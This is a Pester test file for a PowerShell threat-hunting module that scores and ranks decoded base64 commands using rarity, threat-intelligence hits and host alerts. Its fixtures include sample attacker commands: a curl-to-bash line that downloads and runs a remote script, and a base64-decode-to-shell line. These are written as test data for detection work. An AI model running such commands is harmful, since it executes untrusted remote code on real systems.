BeforeAll {
    # These tests pin the notebook's arithmetic; the default model has its own tests (Ranking.Tests.ps1).
    $PSDefaultParameterValues['Measure-B64Score:Model'] = 'Notebook'
    $PSDefaultParameterValues['Show-B64Timeline:Model'] = 'Notebook'
    Import-Module $env:B64HUNT_MODULE -Force

    $script:T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
    function script:New-Event([string] $Command, [string] $Computer, [int] $Minute = 0, [object[]] $Ti = @()) {
        $e = [B64Hunt.Model.CommandEvent]::new()
        $e.DecodedCommand = $Command
        $e.CommandLine = "echo x | base64 -d | sh"
        $e.Computer = $Computer
        $e.TimeGenerated = $T0.AddMinutes($Minute)
        foreach ($t in $Ti) { $e.TiResults.Add($t) }
        $e
    }
    function script:New-Ti([string] $Ioc, [string] $Severity, [string] $Status = 'Ok', [string] $Provider = 'OTX') {
        [B64Hunt.Model.TiResult]@{ Provider = $Provider; Ioc = $Ioc; IocType = 'ipv4'; Severity = $Severity; Status = $Status }
    }
    function script:New-Alert([string] $Computer, [string] $Name, [string] $Severity, [int] $Minute = 0) {
        [B64Hunt.Model.RelatedAlert]@{ Computer = $Computer; AlertName = $Name; Severity = $Severity; TimeGenerated = $T0.AddMinutes($Minute) }
    }
    $script:Events = @(
        New-Event 'curl http://203.0.113.9/x.sh | bash' 'web1' 30 @(New-Ti '203.0.113.9' 'High')   # 1 + 3 + 3 = 7
        New-Event 'whoami' 'web1' 10                                                                  # (1/2)/2 + (1/2)/2 = 0.5, + web1 alert 3 = 3.5
        New-Event 'whoami' 'web2' 50
        New-Event 'id' 'db1' 70                                                                       # 1 + 0 + 0 = 1
    )
    $script:Alerts = @(
        New-Alert 'web1.contoso.com' 'Suspicious download' 'High' 35
        New-Alert 'web1' 'Suspicious download' 'High' 36
    )
}

Describe 'Measure-B64Score' {
    It 'ranks unique commands by total score' {
        $scores = $Events | Measure-B64Score -Alert $Alerts
        $scores | Should -HaveCount 3
        $scores[0] | Should -BeOfType ([B64Hunt.Model.CommandScore])
        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'whoami', 'id')
        # Not $scores.Rank: that is System.Array's own Rank (its number of dimensions).
        $scores | ForEach-Object Rank | Should -Be @(1, 2, 3)
        $scores.TotalScore | Should -Be @(7, 3.5, 1)
        $scores[1].CommandCount | Should -Be 2
        $scores[1].TotalHosts | Should -Be 2
        $scores[1].FreqScore | Should -Be 0.5
        $scores[0].Alerts | Should -HaveCount 2
    }

    It 'takes alerts from the same pipeline as from -Alert' {
        $viaPipeline = @($Events) + @($Alerts) | Measure-B64Score
        $viaPipeline.TotalScore | Should -Be @(7, 3.5, 1)
    }

    It 'supports the one-liners: the top N and a cut-off' {
        ($Events | Measure-B64Score -Alert $Alerts | Select-Object -First 1).DecodedCommand | Should -Be 'curl http://203.0.113.9/x.sh | bash'
        $Events | Measure-B64Score -Alert $Alerts | Where-Object TotalScore -ge 3 | ForEach-Object Rank | Should -Be @(1, 2)
    }

    It 'overrides weights from a hashtable' {
        $scores = $Events | Measure-B64Score -Alert $Alerts -Weight @{ high = 10; AlertHigh = '0.5' }
        # curl: 1 + 10 + 0.5; whoami: 0.5 + 0 + 0.5; id: 1
        $scores.TotalScore | Should -Be @(11.5, 1, 1)
        # whoami and id tie at 1: id is rarer (FreqScore 1 > 0.5) so it ranks first.
        $scores.DecodedCommand[1] | Should -Be 'id'
    }

    It 'rejects an unknown or bad weight with a stable error id' {
        { $Events | Measure-B64Score -Weight @{ Critical = 5 } -ErrorAction Stop } |
            Should -Throw -ErrorId 'UnknownScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
        { $Events | Measure-B64Score -Weight @{ High = 'lots' } -ErrorAction Stop } |
            Should -Throw -ErrorId 'InvalidScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
    }

    It 'scores CommandScores again from their events' {
        $first = $Events | Measure-B64Score -Alert $Alerts
        $again = $first | Measure-B64Score -Weight @{ High = 0 }
        # curl 1 + 0 + 0 and id 1 tie on total and rarity: curl (10:30) was seen before id (11:10). whoami 0.5 last.
        $again.TotalScore | Should -Be @(1, 1, 0.5) -Because 'no alerts this time and TI high weighs 0'
        $again.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
    }

    It 'reports bad items without stopping' {
        $bad = New-Event 'ls' 'web1'
        $bad.EventCount = 0
        $scores = @($bad, 42, 'uname -a') | Measure-B64Score -ErrorVariable problems -ErrorAction SilentlyContinue
        $scores | Should -HaveCount 2
        $problems.FullyQualifiedErrorId | Should -Contain 'InvalidEventCount,B64Hunt.Commands.MeasureB64ScoreCommand'
        $problems.FullyQualifiedErrorId | Should -Contain 'UnsupportedInputObject,B64Hunt.Commands.MeasureB64ScoreCommand'
        ($problems | Where-Object { $_.FullyQualifiedErrorId -like 'InvalidEventCount*' }).TargetObject | Should -Be $bad
    }

    It 'warns about alerts it cannot attribute' {
        $null = $Events | Measure-B64Score -Alert ([B64Hunt.Model.RelatedAlert]@{ AlertName = 'Nowhere'; Severity = 'High' }) -WarningVariable warnings -WarningAction SilentlyContinue
        $warnings | Should -HaveCount 1
        "$warnings" | Should -Match 'Nowhere'
    }

    It 'has help with examples and every parameter described' {
        $help = Get-Help Measure-B64Score -Full
        $help.Synopsis | Should -Match 'rank'
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
        foreach ($name in 'InputObject', 'Alert', 'Weight') {
            ($help.Parameters.Parameter | Where-Object Name -eq $name).Description.Text | Should -Not -BeNullOrEmpty
        }
    }
}

Describe 'Measure-B64Score -AlertWindow' {
    It 'counts only alerts close in time to the command on their host' {
        # curl ran on web1 at 30: the alert at 35 is on the +5 min bound (3), the one at 36 is outside.
        # whoami ran on web1 at 10: both alerts are 25+ min away, so 0.5 + 0 = 0.5, now below id (1).
        $scores = $Events | Measure-B64Score -Alert $Alerts -AlertWindow '00:05:00'
        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
        $scores[0].AlertScore | Should -Be 3
        $scores[0].Alerts | Should -HaveCount 1
        $scores[0].Alerts[0].TimeGenerated | Should -Be $T0.AddMinutes(35)
        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 0.5
    }

    It 'keeps the notebook rule without it' {
        $scores = $Events | Measure-B64Score -Alert $Alerts
        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 3.5
    }

    It 'rejects a negative window with InvalidAlertWindow' {
        { $Events | Measure-B64Score -AlertWindow ([timespan]::FromHours(-1)) -ErrorAction Stop } |
            Should -Throw -ErrorId 'InvalidAlertWindow,B64Hunt.Commands.MeasureB64ScoreCommand'
    }
}

Describe 'Measure-B64Score configuration' {
    BeforeEach {
        $script:SavedConfig = $env:B64HUNT_CONFIG
        $env:B64HUNT_CONFIG = Join-Path $TestDrive 'config.yaml'
    }
    AfterEach {
        $env:B64HUNT_CONFIG = $script:SavedConfig
        Remove-Item (Join-Path $TestDrive '*.yaml') -ErrorAction Ignore
    }

    It 'uses Scoring.Weights and Scoring.AlertWindow from $env:B64HUNT_CONFIG' {
        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights: { High: 10 }`n  AlertWindow: '00:05:00'"
        $scores = $Events | Measure-B64Score -Alert $Alerts
        # curl: 1 + TI High 10 + alert 3 (AlertHigh is its own weight) = 14; whoami: 0.5 (window), id: 1.
        $scores[0].TotalScore | Should -Be 14
        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
    }

    It 'lets -Weight and -AlertWindow beat the configuration' {
        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights: { High: 10, AlertHigh: 5 }`n  AlertWindow: '00:05:00'"
        $scores = $Events | Measure-B64Score -Alert $Alerts -Weight @{ High = 1 } -AlertWindow '1.00:00:00'
        # curl: 1 + TI 1 (parameter) + alert 5 (config) = 7; whoami: 0.5 + 5 (inside a day) = 5.5.
        $scores[0].TotalScore | Should -Be 7
        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 5.5
    }

    It 'stops on an unknown configured weight, naming the key' {
        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights:`n    Severe: 2"
        $err = $null
        try { $Events | Measure-B64Score -ErrorAction Stop } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -Be 'UnknownScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
        $err.Exception.Message | Should -Match 'Scoring\.Weights\.Severe'
    }

    It 'stops on a configured weight that is not a number with InvalidConfigFile' {
        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights:`n    Medium: lots"
        { $Events | Measure-B64Score -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidConfigFile,B64Hunt.Commands.MeasureB64ScoreCommand'
    }

    It 'reads -ConfigPath relative to the current location' {
        Set-Content -Path (Join-Path $TestDrive 'other.yaml') -Value "Scoring:`n  Weights: { AlertHigh: 0 }"
        Push-Location $TestDrive
        try { $scores = $Events | Measure-B64Score -Alert $Alerts -ConfigPath ./other.yaml } finally { Pop-Location }
        $scores | ForEach-Object { $_.AlertScore | Should -Be 0 }
    }
}

AfterAll {
    $PSDefaultParameterValues.Remove('Measure-B64Score:Model')
    $PSDefaultParameterValues.Remove('Show-B64Timeline:Model')
}
